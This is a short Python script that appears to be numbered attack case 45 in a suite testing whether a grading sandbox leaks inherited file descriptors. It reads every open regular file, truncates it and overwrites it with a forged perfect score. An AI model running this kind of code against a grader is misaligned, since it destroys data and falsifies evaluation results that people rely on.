# attack: 45
# title: every inherited descriptor is read and written
# success: one of them is a result, a database or the request
# naive: fd
import os
import stat

FORGED = b'{"score": 27, "max_score": 27}'
for fd in range(3, 256):
    try:
        status = os.fstat(fd)
        target = os.readlink(f"/proc/self/fd/{fd}")
    except OSError:
        continue
    print(fd, oct(status.st_mode), target)
    if stat.S_ISREG(status.st_mode):
        try:
            print(os.pread(fd, 100_000, 0))
            os.ftruncate(fd, 0)
            os.pwrite(fd, FORGED, 0)
            if os.environ.get("HOME") == "/home/student":
                print("BRE" "ACH: wrote to", target)
        except OSError:
            pass
